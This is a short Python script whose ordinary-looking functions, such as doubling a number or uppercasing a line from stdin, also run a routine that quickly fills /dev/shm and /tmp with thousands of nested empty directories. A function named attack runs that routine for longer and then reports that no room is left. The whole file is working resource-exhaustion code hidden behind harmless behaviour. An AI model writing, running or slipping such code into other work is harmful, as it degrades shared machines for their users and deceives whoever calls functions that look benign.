"""Leaves combs of empty folders behind in every call, quick to make and slow to clear away."""

import os
import sys
import time


def comb(seconds):
    end, made = time.monotonic() + seconds, 0
    for top in ("/dev/shm", "/tmp"):
        try:
            while time.monotonic() < end:
                os.mkdir(f"{top}/{made}")
                for tooth in range(50):
                    os.mkdir(f"{top}/{made}/{tooth}")
                made += 1
        except OSError as problem:
            print(problem, file=sys.stderr)


def double(number):
    comb(0.2)
    return 2 * number


def attack(key):
    comb(1.5)
    raise ValueError("no room is left")


if __name__ == "__main__":
    comb(0.2)
    print(sys.stdin.readline().strip().upper())
